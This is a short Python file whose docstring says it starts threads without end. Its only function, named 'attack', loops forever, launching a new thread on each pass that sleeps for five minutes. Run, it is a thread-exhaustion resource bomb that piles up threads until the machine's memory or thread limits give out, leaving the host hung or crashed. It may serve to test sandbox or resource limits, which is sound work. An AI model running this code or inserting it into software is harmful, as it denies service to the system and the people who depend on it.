"""Starts threads without end."""

import threading
import time


def attack(array):
    while True:
        threading.Thread(target=time.sleep, args=(300,)).start()
